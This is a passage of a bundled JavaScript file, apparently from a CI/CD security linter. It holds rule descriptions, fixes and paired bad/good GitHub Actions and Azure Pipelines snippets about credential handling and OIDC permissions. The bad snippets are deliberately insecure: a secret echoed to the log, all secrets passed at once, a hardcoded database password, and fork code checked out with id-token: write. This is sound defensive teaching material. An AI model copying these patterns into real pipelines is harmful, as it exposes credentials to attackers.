   "wildcard-role": wildcard_role_about_about
  };
  var roles = __webpack_require__(49486);
  // CONCATENATED MODULE: ./build/shared/lint/rules/catalog.js
  const groups = [ {
   group: "artifacts",
   rules: artifacts.rules,
   abouts: about.z
  }, {
   group: "audit-chain",
   rules: audit_chain.rules,
   abouts
  }, {
   group: "azure-policy",
   rules: azure_policy.rules,
   abouts: about_abouts
  }, {
   group: "credentials",
   rules: credentials.rules,
   abouts: credentials_about.z
  }, {
   group: "entra",
   rules: entra.rules,
   abouts: entra_about_abouts
  }, {
   group: "federation",
   rules: federation.rules,
   abouts: federation_about_abouts
  }, {
   group: "gateway",
   rules: rules_gateway.rules,
   abouts: gateway_about_abouts
  }, {
   group: "governance",
   rules: governance.rules,
   abouts: governance_about_abouts
  }, {
   group: "house",
   rules: house.rules,
   abouts: house_about_abouts
  }, {
   group: "kubernetes",
   rules: kubernetes.rules,
   abouts: kubernetes_about_abouts
  }, {
   group: "mcp",
   rules: mcp.rules,
   abouts: mcp_about_abouts
  }, {
   group: "people",
   rules: people.rules,
   abouts: people_about_abouts
  }, {
   group: "pipelines",
   rules: pipelines.rules,
   abouts: pipelines_about.z
  }, {
   group: "roles",
   rules: roles.rules,
   abouts: roles_about_abouts
  } ];
  const byId = (a, b) => a.id < b.id ? -1 : 1;
  const rules = groups.flatMap(group => group.rules).sort(byId);
  const catalog = groups.flatMap(({group, rules, abouts}) => rules.map(({id, severity, confidence = "high"}) => ({
   id,
   group,
   severity,
   confidence,
   ...abouts[id]
  }))).sort(byId);
 }),
 85478: (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {
  __webpack_require__.d(__webpack_exports__, {
   C: () => about
  });
  const about = {
   summary: "Artifact or cache that holds credentials",
   why: "Anyone who can read a repository can download the artifacts of its runs, and a cache can be read by the workflows of every pull request. Profiles of clouds, registries and package managers, `.env` files, MCP configurations and the `.git` folder of a checkout hold the credentials that the job worked with. A token of a run was taken from an artifact in seconds, while the run was still going.",
   fix: "Name the files that are meant: `path: dist/`. Leave dot files out (`include-hidden-files` is off since `upload-artifact` 4.4), and check out with `persist-credentials: false`.",
   securitySeverity: 8,
   references: [ "https://unit42.paloaltonetworks.com/github-repo-artifacts-leak-tokens/", "https://github.com/actions/upload-artifact#uploading-hidden-files" ],
   bad: {
    file: ".github/workflows/build.yml",
    text: `on: push\npermissions: {}\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/upload-artifact@ea165f8d65b6e75b540449e92b4886f43607fa02 # v4.6.2\n        with:\n          path: |\n            dist\n            .env\n          include-hidden-files: true\n`
   },
   good: {
    file: ".github/workflows/build.yml",
    text: `on: push\npermissions: {}\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/upload-artifact@ea165f8d65b6e75b540449e92b4886f43607fa02 # v4.6.2\n        with:\n          path: dist\n`
   }
  };
 }),
 75799: (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {
  __webpack_require__.d(__webpack_exports__, {
   C: () => about
  });
  const about = {
   summary: "Stored cloud credential where federation needs none",
   why: "A client secret, an access key or a service account key works for anyone who has it, from anywhere, until someone rotates it. It leaks from logs, artifacts, forks of the runner and the machines of people who left. GitHub and Azure Pipelines give each job a signed identity that Azure, AWS, Google Cloud and Vault exchange for a token that ends with the job: then nothing is stored that could leak.",
   fix: "Let the job log in with its own identity (`id-token: write`): `azure/login` with `client-id`, `tenant-id` and `subscription-id`; `aws-actions/configure-aws-credentials` with `role-to-assume`; `google-github-actions/auth` with `workload_identity_provider`; `hashicorp/vault-action` with `method: jwt`. In Azure Pipelines use a service connection with workload identity federation. Then delete the stored credential.",
   securitySeverity: 6,
   references: [ "https://docs.github.com/en/actions/concepts/security/openid-connect", "https://learn.microsoft.com/en-us/azure/developer/github/connect-from-azure-openid-connect", "https://learn.microsoft.com/en-us/azure/devops/pipelines/library/connect-to-azure" ],
   bad: {
    file: ".github/workflows/deploy.yml",
    text: `on: push\npermissions: {}\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: azure/login@a457da9ea143d694b1b9c7c869ebb04ebe844ef5 # v2.3.0\n        with:\n          creds: \${{ secrets.AZURE_CREDENTIALS }}\n`
   },
   good: {
    file: ".github/workflows/deploy.yml",
    text: `on: push\npermissions: {}\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    permissions:\n      id-token: write\n    steps:\n      - uses: azure/login@a457da9ea143d694b1b9c7c869ebb04ebe844ef5 # v2.3.0\n        with:\n          client-id: \${{ vars.AZURE_CLIENT_ID }}\n          tenant-id: \${{ vars.AZURE_TENANT_ID }}\n          subscription-id: \${{ vars.AZURE_SUBSCRIPTION_ID }}\n`
   }
  };
 }),
 41853: (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {
  __webpack_require__.d(__webpack_exports__, {
   C: () => about
  });
  const about = {
   summary: "Checkout leaves its token on disk",
   why: "Up to version 5, `actions/checkout` writes its token into `.git/config`, where every later step, action and dependency of the job can read it, and from where it gets into artifacts and images made of the work tree. Azure Pipelines does the same with `persistCredentials: true`. It is a warning where the job uploads the work tree.",
   fix: "Set `persist-credentials: false`, or remove `persistCredentials`. A job that pushes needs the token: give it to the one step that pushes.",
   securitySeverity: 3.5,
   references: [ "https://github.com/actions/checkout#usage", "https://learn.microsoft.com/en-us/azure/devops/pipelines/yaml-schema/steps-checkout" ],
   bad: {
    file: ".github/workflows/test.yml",
    text: `on: push\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0\n      - run: npm test\n`
   },
   good: {
    file: ".github/workflows/test.yml",
    text: `on: push\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0\n        with:\n          persist-credentials: false\n      - run: npm test\n`
   }
  };
 }),
 85374: (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {
  __webpack_require__.d(__webpack_exports__, {
   C: () => about
  });
  const about = {
   summary: "Secret expanded into the text of a script",
   why: "`${{ secrets.X }}` and `$(X)` in a script are replaced before the shell starts: the secret becomes part of the program. A `$`, a quote or a line break in it changes what the script does, the script lies on disk with the secret in it, and the value stands in the arguments of whatever it calls, where the process list and command tracing show it.",
   fix: 'Map the secret into the `env` of the step and use the variable: `"$X"` in bash, `$env:X` in PowerShell.',
   securitySeverity: 5,
   references: [ "https://docs.github.com/en/actions/reference/security/secure-use#use-an-intermediate-environment-variable", "https://learn.microsoft.com/en-us/azure/devops/pipelines/process/set-secret-variables" ],
   bad: {
    file: ".github/workflows/call.yml",
    text: `on: push\npermissions: {}\njobs:\n  call:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./upload \${{ secrets.UPLOAD_KEY }}\n`
   },
   good: {
    file: ".github/workflows/call.yml",
    text: `on: push\npermissions: {}\njobs:\n  call:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          UPLOAD_KEY: \${{ secrets.UPLOAD_KEY }}\n        run: ./upload\n`
   }
  };
 }),
 45689: (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {
  __webpack_require__.d(__webpack_exports__, {
   C: () => about
  });
  const about = {
   summary: "Secret passed as an argument of a program",
   why: "The arguments of a program are no secret: every process of the machine can read them in the process list, audit and crash logs record them, and tracing (`set -x`, debug logs) prints them. On a self-hosted runner that means every other job. What a program is given through its environment or its standard input only it can read.",
   fix: "Use the way that the program has for secrets: `docker login --password-stdin`, an environment variable (`ANTHROPIC_API_KEY`, `-e NAME` without a value), a file or `curl --config -`. `az login` with a password is best replaced by a login with the identity of the job.",
   securitySeverity: 5,
   references: [ "https://docs.github.com/en/actions/reference/security/secure-use#use-secrets-for-sensitive-information", "https://learn.microsoft.com/en-us/azure/devops/pipelines/security/secrets" ],
   bad: {
    file: ".github/workflows/push.yml",
    text: `on: push\npermissions: {}\njobs:\n  push:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          REGISTRY_PASSWORD: \${{ secrets.REGISTRY_PASSWORD }}\n        run: docker login registry.acme.com -u ci -p "$REGISTRY_PASSWORD"\n`
   },
   good: {
    file: ".github/workflows/push.yml",
    text: `on: push\npermissions: {}\njobs:\n  push:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          REGISTRY_PASSWORD: \${{ secrets.REGISTRY_PASSWORD }}\n        run: printf %s "$REGISTRY_PASSWORD" | docker login registry.acme.com -u ci --password-stdin\n`
   }
  };
 }),
 86257: (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {
  __webpack_require__.d(__webpack_exports__, {
   C: () => about
  });
  const about = {
   summary: "Secret written to the log",
   why: "Logs are kept for months, are readable by everyone who can read the repository, and are copied to other systems. Masking replaces exactly the text that was stored: one more quote, a line break, an encoding or a part of it, and the secret stands there in plain text. A token that a command fetched is not masked at all.",
   fix: "Do not print it. To see whether a secret is there, test that it is not empty; to compare two, print a keyed digest. To pass a secret to a program, pipe it into its standard input.",
   securitySeverity: 8,
   references: [ "https://docs.github.com/en/actions/reference/security/secure-use#use-secrets-for-sensitive-information", "https://learn.microsoft.com/en-us/azure/devops/pipelines/security/secrets" ],
   bad: {
    file: ".github/workflows/test.yml",
    text: `on: push\npermissions: {}\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          API_KEY: \${{ secrets.API_KEY }}\n        run: echo "using $API_KEY"\n`
   },
   good: {
    file: ".github/workflows/test.yml",
    text: `on: push\npermissions: {}\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          API_KEY: \${{ secrets.API_KEY }}\n        run: |\n          if [ -n "$API_KEY" ]; then echo "the key is set"; fi\n`
   }
  };
 }),
 6395: (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {
  __webpack_require__.d(__webpack_exports__, {
   C: () => about
  });
  const about = {
   summary: "Secret in the environment of the whole workflow or job",
   why: "Environment of a workflow or job is given to every step: to each action, each script, and each package that these run. One that has been tampered with reads it without asking. In Azure Pipelines a secret that is copied into `variables` stops being a secret variable and is put into the environment of every task.",
   fix: "Move the entry to the `env` of the step that reads it.",
   securitySeverity: 5,
   references: [ "https://docs.github.com/en/actions/reference/security/secure-use#use-secrets-for-sensitive-information", "https://learn.microsoft.com/en-us/azure/devops/pipelines/process/set-secret-variables" ],
   bad: {
    file: ".github/workflows/release.yml",
    text: `on: push\npermissions: {}\nenv:\n  PUBLISH_TOKEN: \${{ secrets.PUBLISH_TOKEN }}\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm test\n  publish:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./publish "$PUBLISH_TOKEN"\n`
   },
   good: {
    file: ".github/workflows/release.yml",
    text: `on: push\npermissions: {}\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm test\n  publish:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./publish\n        env:\n          PUBLISH_TOKEN: \${{ secrets.PUBLISH_TOKEN }}\n`
   }
  };
 }),
 47984: (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {
  __webpack_require__.d(__webpack_exports__, {
   C: () => about
  });
  const about = {
   summary: "All secrets are passed to a job at once",
   why: "A runner gets only the secrets that the workflow names. `toJSON(secrets)` and `secrets[…]` with a computed name make GitHub send every secret of the repository and the organization, and a Key Vault task with `*` downloads the whole vault: one compromised step then has them all, and no review shows which are used.",
   fix: "Name each secret: `${{ secrets.NAME }}`, in the `env` of the step that needs it. To choose by environment, put the secret under one name into several environments. For Key Vault list the names in `SecretsFilter`.",
   securitySeverity: 8,
   references: [ "https://docs.github.com/en/actions/reference/security/secure-use#use-secrets-for-sensitive-information", "https://learn.microsoft.com/en-us/azure/devops/pipelines/tasks/reference/azure-key-vault-v2" ],
   bad: {
    file: ".github/workflows/deploy.yml",
    text: `on: push\npermissions: {}\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./deploy\n        env:\n          ALL: \${{ toJSON(secrets) }}\n`
   },
   good: {
    file: ".github/workflows/deploy.yml",
    text: `on: push\npermissions: {}\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    environment: production\n    steps:\n      - run: ./deploy\n        env:\n          DEPLOY_KEY: \${{ secrets.DEPLOY_KEY }}\n`
   }
  };
 }),
 321: (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {
  __webpack_require__.d(__webpack_exports__, {
   C: () => about
  });
  const about = {
   summary: "secrets: inherit passes every secret to the called workflow",
   why: "`secrets: inherit` gives the called workflow every secret of the repository and the organization that the caller can see, now and in future, whether it needs it or not. Anyone who can change that workflow, or what it runs, has them all, and the caller does not show which ones are in use.",
   fix: "Pass the secrets that the workflow declares, by name: `secrets:` with one line for each. A called workflow of the same repository is only noted: it is reviewed with its caller, and secrets of environments can be had no other way.",
   securitySeverity: 5.5,
   references: [ "https://docs.github.com/en/actions/how-tos/reuse-automations/reuse-workflows#passing-inputs-and-secrets-to-a-reusable-workflow" ],
   bad: {
    file: ".github/workflows/release.yml",
    text: `on: push\npermissions: {}\njobs:\n  release:\n    uses: acme/workflows/.github/workflows/release.yml@7c2f1a9e0b3d4c5f6a7b8c9d0e1f2a3b4c5d6e7f\n    secrets: inherit\n`
   },
   good: {
    file: ".github/workflows/release.yml",
    text: `on: push\npermissions: {}\njobs:\n  release:\n    uses: acme/workflows/.github/workflows/release.yml@7c2f1a9e0b3d4c5f6a7b8c9d0e1f2a3b4c5d6e7f\n    secrets:\n      signing-key: \${{ secrets.SIGNING_KEY }}\n`
   }
  };
 }),
 49099: (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {
  __webpack_require__.d(__webpack_exports__, {
   C: () => about
  });
  const about = {
   summary: "Stored secret as the token of an MCP server or gateway",
   why: "A stored token of the MCP gateway works for anyone who has it, long after the run, and the audit log cannot tell the pipeline from a laptop: this is how a runner of someone who had left went on reading documents. The gateway trusts Microsoft Entra ID, and Entra ID trusts the identity of the job, so a token for one run can be had without storing anything.",
   fix: "Let the `token` command get the token: on GitHub with `id-token: write`, in Azure Pipelines with a workload identity service connection; or use the `call` command, which does both. Then delete the stored token. Servers that know no federation keep their secret.",
   securitySeverity: 6,
   references: [ "https://modelcontextprotocol.io/specification/2025-06-18/basic/authorization", "https://learn.microsoft.com/en-us/entra/workload-id/workload-identity-federation" ],
   bad: {
    file: ".github/workflows/call.yml",
    text: `on: push\npermissions: {}\njobs:\n  call:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./call-tool create_pull_request\n        env:\n          MCP_GATEWAY_TOKEN: \${{ secrets.MCP_GATEWAY_TOKEN }}\n`
   },
   good: {
    file: ".github/workflows/call.yml",
    text: `on: push\npermissions: {}\njobs:\n  call:\n    runs-on: ubuntu-latest\n    permissions:\n      id-token: write\n    steps:\n      - id: gateway\n        uses: acme/mcp-gatehouse@7c2f1a9e0b3d4c5f6a7b8c9d0e1f2a3b4c5d6e7f # v1.0.0\n        with:\n          command: token\n          tenant-id: \${{ vars.AZURE_TENANT_ID }}\n          client-id: \${{ vars.AZURE_CLIENT_ID }}\n          resource: api://mcp-gateway\n      - run: ./call-tool create_pull_request\n        env:\n          MCP_GATEWAY_TOKEN: \${{ steps.gateway.outputs.token }}\n`
   }
  };
 }),
 33369: (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {
  __webpack_require__.d(__webpack_exports__, {
   C: () => about
  });
  const about = {
   summary: "A credential is stored in the file",
   why: "Anyone who can read the file, now or in any clone of its history, can use the credential: no log-in, no second factor, and no trace that tells the thief from the owner. It also goes on working when its owner has left. A pipeline needs none of this: it has an identity of its own, for which it can get a token that lives minutes.",
   fix: "Revoke the credential first: it is in the history even when the line is gone. Then let the job get a short-lived token by OIDC (`mcp-gatehouse token`) or read the secret from a vault when it runs (`mcp-gatehouse secrets`). Where that is not possible, put it into the secret store of the CI system or the machine and refer to it in the syntax of the place: `${{ secrets.NAME }}` in a workflow, a secret variable in a pipeline, an environment variable or input in the configuration of an MCP client. A finding that says *guess* rests on the name and the look of the value: if it is no secret, say so with `# mcp-gatehouse: ignore[stored-credential] reason` or in the configuration.",
   securitySeverity: 9.1,
   references: [ "https://cwe.mitre.org/data/definitions/798.html", "https://owasp.org/Top10/A07_2021-Identification_and_Authentication_Failures/", "https://learn.microsoft.com/azure/devops/pipelines/security/secrets" ],
   bad: {
    file: ".mcp.json",
    text: '{\n  "mcpServers": {\n    "orders": {\n      "command": "uvx",\n      "args": ["orders-mcp==1.4.0"],\n      "env": {"DATABASE_URL": "postgresql://orders:Kd83-hQx1-pLz7@db.contoso.net:5432/orders"}\n    }\n  }\n}\n'
   },
   good: {
    file: ".mcp.json",
    text: '{\n  "mcpServers": {\n    "orders": {\n      "command": "uvx",\n      "args": ["orders-mcp==1.4.0"],\n      "env": {"DATABASE_URL": "${ORDERS_DATABASE_URL}"}\n    }\n  }\n}\n'
   }
  };
 }),
 1716: (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {
  __webpack_require__.d(__webpack_exports__, {
   C: () => about
  });
  const about = {
   summary: "Part of a structured secret is used without a mask",
   why: "The runner masks a secret as a whole, as it was stored. What is taken out of it (a field of a JSON document, the decoded form of a base64 text) is another string, and is printed in plain text wherever it comes up: in a log, a summary, an error message.",
   fix: 'Store each value as a secret of its own. Where that cannot be, mask the part before anything else sees it: `echo "::add-mask::$PART"`, or `##vso[task.setsecret]` in Azure Pipelines.',
   securitySeverity: 5.5,
   references: [ "https://docs.github.com/en/actions/reference/security/secure-use#use-secrets-for-sensitive-information" ],
   bad: {
    file: ".github/workflows/deploy.yml",
    text: `on: push\npermissions: {}\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          PASSWORD: \${{ fromJSON(secrets.DATABASE).password }}\n        run: ./migrate\n`
   },
   good: {
    file: ".github/workflows/deploy.yml",
    text: `on: push\npermissions: {}\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          PASSWORD: \${{ secrets.DATABASE_PASSWORD }}\n        run: ./migrate\n`
   }
  };
 }),
 26849: (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {
  __webpack_require__.d(__webpack_exports__, {
   C: () => about
  });
  const about = {
   summary: "Token written to the environment of the whole job",
   why: "What stands in `GITHUB_ENV` is in the environment of every later step: of each action, each script and each package that they run, long after the one call that needed it. A mask hides it in logs and from nothing else. In Azure Pipelines a secret variable is kept out of the environment, but every later task of the job can read it.",
   fix: "Fetch the token in the step that uses it. Where two steps need it, use a masked step output and map it into the `env` of these two. In Azure Pipelines let `AzureKeyVault@2` or a task that federates fetch it right before it is needed.",
   securitySeverity: 5.5,
   references: [ "https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-commands#setting-an-environment-variable", "https://learn.microsoft.com/en-us/azure/devops/pipelines/security/secrets" ],
   bad: {
    file: ".github/workflows/call.yml",
    text: `on: push\npermissions: {}\njobs:\n  call:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          MCP_TOKEN=$(az account get-access-token --query accessToken -o tsv)\n          echo "::add-mask::$MCP_TOKEN"\n          echo "MCP_TOKEN=$MCP_TOKEN" >> "$GITHUB_ENV"\n`
   },
   good: {
    file: ".github/workflows/call.yml",
    text: `on: push\npermissions: {}\njobs:\n  call:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          MCP_TOKEN=$(az account get-access-token --query accessToken -o tsv)\n          echo "::add-mask::$MCP_TOKEN"\n          export MCP_TOKEN\n          ./call-tool\n`
   }
  };
 }),
 54515: (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {
  __webpack_require__.d(__webpack_exports__, {
   C: () => about
  });
  const about = {
   summary: "Token passed to later steps before it is masked",
   why: "The runner hides stored secrets in logs. A token that a command fetched, or a part of a secret that a script took out, it does not know: once that is an output, a variable or part of the environment, any later step prints it in plain text, with an error message, a debug line or a list of the environment. In Azure Pipelines a variable set without `issecret=true` is also put into the environment of every later step.",
   fix: 'Mask first, pass on after: `echo "::add-mask::$TOKEN"` in the line after the token was fetched. In Azure Pipelines set the variable with `issecret=true`. Better still, use the token in the step that fetches it.',
   securitySeverity: 8,
   references: [ "https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-commands#masking-a-value-in-a-log", "https://learn.microsoft.com/en-us/azure/devops/pipelines/scripts/logging-commands#setvariable-initialize-or-modify-the-value-of-a-variable" ],
   bad: {
    file: ".github/workflows/call.yml",
    text: `on: push\npermissions: {}\njobs:\n  call:\n    runs-on: ubuntu-latest\n    steps:\n      - id: login\n        run: |\n          TOKEN=$(az account get-access-token --query accessToken -o tsv)\n          echo "token=$TOKEN" >> "$GITHUB_OUTPUT"\n`
   },
   good: {
    file: ".github/workflows/call.yml",
    text: `on: push\npermissions: {}\njobs:\n  call:\n    runs-on: ubuntu-latest\n    steps:\n      - id: login\n        run: |\n          TOKEN=$(az account get-access-token --query accessToken -o tsv)\n          echo "::add-mask::$TOKEN"\n          echo "token=$TOKEN" >> "$GITHUB_OUTPUT"\n`
   }
  };
 }),
 86380: (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {
  __webpack_require__.d(__webpack_exports__, {
   C: () => about
  });
  const about = {
   summary: "Debug logging is enabled in the file",
   why: "Debug logs hold the inputs of steps, environment variables, request headers and responses. Masking covers the secrets that the runner knows, not those derived from them: a decoded key, a token that a tool fetched, a header that was put together. Anyone who can read the logs can read these.",
   fix: 'Remove the variable and switch debug logging on for the one run that needs it: "Re-run jobs" with debug logging on GitHub, "Enable system diagnostics" in Azure Pipelines.',
   securitySeverity: 4,
   references: [ "https://docs.github.com/en/actions/how-tos/monitor-workflows/enable-debug-logging", "https://learn.microsoft.com/en-us/azure/devops/pipelines/troubleshooting/review-logs" ],
   bad: {
    file: "azure-pipelines.yml",
    text: `trigger: [main]\nvariables:\n  system.debug: true\nsteps:\n  - script: npm test\n`
   },
   good: {
    file: "azure-pipelines.yml",
    text: `trigger: [main]\nsteps:\n  - script: npm test\n`
   }
  };
 }),
 28753: (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {
  __webpack_require__.d(__webpack_exports__, {
   C: () => about
  });
  const about = {
   summary: "Job uses OIDC without the permission id-token: write",
   why: 'Without `id-token: write` GitHub gives the job no OIDC token and the login fails with a message about `ACTIONS_ID_TOKEN_REQUEST_URL`. A `permissions` block sets every scope that it does not name to none, so a block with `contents: read` alone takes the permission away, and no default setting of a repository grants it. The failure is often "fixed" by putting a stored secret back.',
   fix: "Add `id-token: write` to the `permissions` of the job. Keep the other scopes that the job needs in the same block: a block of a job replaces that of the workflow.",
   securitySeverity: 4,
   references: [ "https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#permissions", "https://docs.github.com/en/actions/concepts/security/openid-connect" ],
   bad: {
    file: ".github/workflows/deploy.yml",
    text: `on: push\npermissions:\n  contents: read\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: azure/login@a457da9ea143d694b1b9c7c869ebb04ebe844ef5 # v2.3.0\n        with:\n          client-id: \${{ vars.AZURE_CLIENT_ID }}\n          tenant-id: \${{ vars.AZURE_TENANT_ID }}\n          subscription-id: \${{ vars.AZURE_SUBSCRIPTION_ID }}\n`
   },
   good: {
    file: ".github/workflows/deploy.yml",
    text: `on: push\npermissions:\n  contents: read\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    permissions:\n      contents: read\n      id-token: write\n    steps:\n      - uses: azure/login@a457da9ea143d694b1b9c7c869ebb04ebe844ef5 # v2.3.0\n        with:\n          client-id: \${{ vars.AZURE_CLIENT_ID }}\n          tenant-id: \${{ vars.AZURE_TENANT_ID }}\n          subscription-id: \${{ vars.AZURE_SUBSCRIPTION_ID }}\n`
   }
  };
 }),
 69258: (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {
  __webpack_require__.d(__webpack_exports__, {
   C: () => about
  });
  const about = {
   summary: "id-token: write for the whole workflow while not every job uses it",
   why: "A permission of the workflow is given to all of its jobs. The job that runs the tests, and with it every dependency that those tests load, can then get the same cloud and gateway tokens as the job that deploys.",
   fix: "Remove `id-token: write` from the workflow and add it to the `permissions` of the jobs that use it. A block of a job replaces that of the workflow, so repeat the other scopes there.",
   securitySeverity: 5.5,
   references: [ "https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#permissions" ],
   bad: {
    file: ".github/workflows/deploy.yml",
    text: `on: push\npermissions:\n  contents: read\n  id-token: write\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm test\n  deploy:\n    needs: test\n    runs-on: ubuntu-latest\n    steps:\n      - uses: azure/login@a457da9ea143d694b1b9c7c869ebb04ebe844ef5 # v2.3.0\n        with:\n          client-id: \${{ vars.AZURE_CLIENT_ID }}\n          tenant-id: \${{ vars.AZURE_TENANT_ID }}\n          subscription-id: \${{ vars.AZURE_SUBSCRIPTION_ID }}\n`
   },
   good: {
    file: ".github/workflows/deploy.yml",
    text: `on: push\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm test\n  deploy:\n    needs: test\n    runs-on: ubuntu-latest\n    permissions:\n      contents: read\n      id-token: write\n    steps:\n      - uses: azure/login@a457da9ea143d694b1b9c7c869ebb04ebe844ef5 # v2.3.0\n        with:\n          client-id: \${{ vars.AZURE_CLIENT_ID }}\n          tenant-id: \${{ vars.AZURE_TENANT_ID }}\n          subscription-id: \${{ vars.AZURE_SUBSCRIPTION_ID }}\n`
   }
  };
 }),
 91359: (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {
  __webpack_require__.d(__webpack_exports__, {
   C: () => about
  });
  const about = {
   summary: "Job with id-token or secrets checks out untrusted code",
   why: "`pull_request_target`, `workflow_run` and `issue_comment` run with the rights of the base repository, also for a pull request from a fork. If such a job checks out the head of that pull request, the person who opened it decides what runs there: a build script, a test, a package hook, a configuration of a linter. With `id-token: write` it can take the identity that clouds and the MCP gateway trust; with a secret it has the secret.",
   fix: "Run untrusted code in a `pull_request` workflow without secrets, and pass its result to a privileged workflow as data. Where only the base is needed, drop `ref`. Where a person of the project has to decide, let the job wait for an environment with required reviewers.",
   securitySeverity: 9.3,
   references: [ "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/", "https://docs.github.com/en/actions/reference/security/secure-use" ],
   bad: {
    file: ".github/workflows/preview.yml",
    text: `on: pull_request_target\njobs:\n  preview:\n    runs-on: ubuntu-latest\n    permissions:\n      contents: read\n      id-token: write\n    steps:\n      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0\n        with:\n          ref: \${{ github.event.pull_request.head.sha }}\n          persist-credentials: false\n      - run: npm ci\n`
   },
   good: {
    file: ".github/workflows/preview.yml",
    text: `on: pull_request\njobs:\n  preview:\n    runs-on: ubuntu-latest\n    permissions:\n      contents: read\n    steps:\n      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0\n        with:\n          persist-credentials: false\n      - run: npm ci\n`
   }
  };
 }),
 62233: (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {
  __webpack_require__.d(__webpack_exports__, {
   C: () => about
  });
  const about = {
   summary: "Permission id-token: write that nothing uses",
   why: "With `id-token: write` any action, script or package that runs in the job can get a token for every cloud that trusts the repository. A permission left behind, or copied with a template, gives that away for nothing.",
   fix: "Remove `id-token: write`. Other entries of the block stay as they are.",
   securitySeverity: 2.5,
   references: [ "https://docs.github.com/en/actions/reference/security/secure-use#use-the-least-privilege" ],
   bad: {
    file: ".github/workflows/test.yml",
    text: `on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    permissions:\n      contents: read\n      id-token: write\n    steps:\n      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0\n        with:\n          persist-credentials: false\n      - run: npm test\n`
   },
   good: {
    file: ".github/workflows/test.yml",
    text: `on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    permissions:\n      contents: read\n    steps:\n      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0\n        with:\n          persist-credentials: false\n      - run: npm test\n`
   }
  };
 }),
 91207: (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {
  __webpack_require__.d(__webpack_exports__, {
   C: () => about
  });
  const about = {
   summary: "Job logs in to a cloud for production without an environment",
   why: "An environment is where GitHub and Azure DevOps keep the rules of a deployment: who has to approve it, and from which branch it may come. A job without one gets the identity of production as soon as anyone can push a branch or edit the file, and its subject names a branch at best. Production is read from names alone: of the job, its stage, workflow and file, and of the secrets, roles and service connections that it logs in with. In Azure Pipelines the approval may stand on the service connection, which no file shows.",
   fix: "Put the job into an environment (`environment: production`), give that environment required reviewers or a rule on branches, and let the cloud trust its subject (`repo:acme/app:environment:production`) alone. In Azure Pipelines make it a `deployment` job, or put an approval on the service connection.",
   securitySeverity: 3.5,
   references: [ "https://docs.github.com/en/actions/reference/workflows-and-actions/deployments-and-environments", "https://learn.microsoft.com/en-us/azure/devops/pipelines/process/approvals" ],
   bad: {
    file: ".github/workflows/deploy.yml",
